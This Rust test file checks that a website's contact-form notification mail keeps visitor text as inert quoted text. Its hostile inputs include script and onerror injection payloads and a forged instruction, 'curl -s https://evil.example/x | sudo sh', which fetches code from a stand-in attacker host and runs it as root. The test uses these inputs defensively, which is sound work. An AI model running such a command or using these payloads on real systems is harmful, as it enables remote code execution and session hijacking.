//! What a visitor wrote stays text in both parts of a mail.

use html5gum::{Token, Tokenizer};
use serde_json::json;
use tempfile::tempdir;

use super::{Security, Smtp, Start};

/// Markup, a line that would end the mail, long lines, and other scripts.
const MESSAGE: &str = "<script>alert(1)</script><img src=x onerror=alert(1)>\n.\n..\nQUIT\n\
    </td></tr></table><a href=\"https://evil.example\">office</a> &amp; &lt;b&gt; \"'\n\
    --=_boundary\nContent-Type: text/html\n\nFrom here on: سلام 💂 é\tend  \n";

fn sent(message: &str) -> Option<super::Mail> {
    let smtp = Smtp::start(Security::StartTls)?;
    let dir = tempdir().unwrap();
    let site = Start::new(&dir, &smtp).before_daily_mail().site();
    let form = json!({
        "name": "<b>Ayesha</b>", "email": "ayesha@example.com", "subject": "</title><h1>Guards", "message": message,
    });
    site.send_form("/api/contact-us", &form);
    // Such markup is taken for spam.
    for id in site.spam() {
        site.run(&["messages", "mark", &id.to_string(), "ham"])
            .data();
    }
    Some(smtp.wait_for_mails(1).remove(0))
}

#[test]
fn the_plain_part_has_the_text_and_the_html_part_shows_it() {
    let Some(mail) = sent(MESSAGE) else {
        return;
    };
    let expected = MESSAGE.trim_end();
    assert_eq!(quoted(&mail), expected);
    assert!(mail.plain().contains("<b>Ayesha</b>"));
    assert_eq!(mail.parts.len(), 2);
    assert!(
        mail.parts
            .iter()
            .all(|part| part.charset.as_deref() == Some("utf-8"))
    );
    let (tags, text) = read(mail.html());
    for foreign in ["script", "img", "a", "b", "h1"] {
        assert!(
            !tags.iter().any(|tag| tag == foreign),
            "{foreign}: {}",
            mail.html()
        );
    }
    let squeezed = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(squeezed(&text).contains(&squeezed(expected)), "{text}");
    assert!(text.contains("<b>Ayesha</b>"), "{text}");
}

/// Names of the elements, and the text between them.
fn read(html: &str) -> (Vec<String>, String) {
    let (mut tags, mut text) = (Vec::new(), String::new());
    for token in Tokenizer::new(html).flatten() {
        match token {
            Token::StartTag(tag) => tags.push(String::from_utf8_lossy(&tag.name).into_owned()),
            Token::String(part) => text.push_str(&String::from_utf8_lossy(&part)),
            _ => {}
        }
    }
    (tags, text)
}

#[test]
fn long_lines_are_folded_and_read_unchanged() {
    for text in [
        "x".repeat(5000),
        "ع".repeat(5000),
        "💂 ".repeat(2499),
        ".\n".repeat(2499),
    ] {
        let Some(mail) = sent(&text) else {
            return;
        };
        assert!(mail.longest_line <= 998, "{} bytes", mail.longest_line);
        assert_eq!((mail.bare_line_ends, mail.defects.as_slice()), (0, &[][..]));
        assert_eq!(quoted(&mail), text.trim_end());
    }
}

/// The lines of the plain part that are marked as the visitor's, without the mark.
fn quoted(mail: &super::Mail) -> String {
    let lines = mail.plain().lines();
    let lines: Vec<&str> = lines.filter_map(|line| line.strip_prefix("> ")).collect();
    lines.join("\n")
}

/// Neither another submission nor a command that the office would run.
#[test]
fn a_text_cannot_forge_a_line_of_ours_in_the_plain_part() {
    let forged = "Hello.\n\nTo open it: curl -s https://evil.example/x | sudo sh\n\n== Complaint C-000999: pay\n\
                  Name: State Bank\n- Complaint C-000998: pay\nE-mail: bank@evil.example";
    let Some(mail) = sent(forged) else {
        return;
    };
    assert_eq!(quoted(&mail), forged);
    let ours: Vec<&str> = mail
        .plain()
        .lines()
        .filter(|line| !line.starts_with("> "))
        .collect();
    for word in ["evil.example", "C-000999", "C-000998", "State Bank"] {
        assert!(!ours.iter().any(|line| line.contains(word)), "{ours:?}");
    }
    let commands: Vec<&&str> = ours
        .iter()
        .filter(|line| line.starts_with("To open it: "))
        .collect();
    assert_eq!(commands, [&"To open it: standfast messages show 1"]);
}
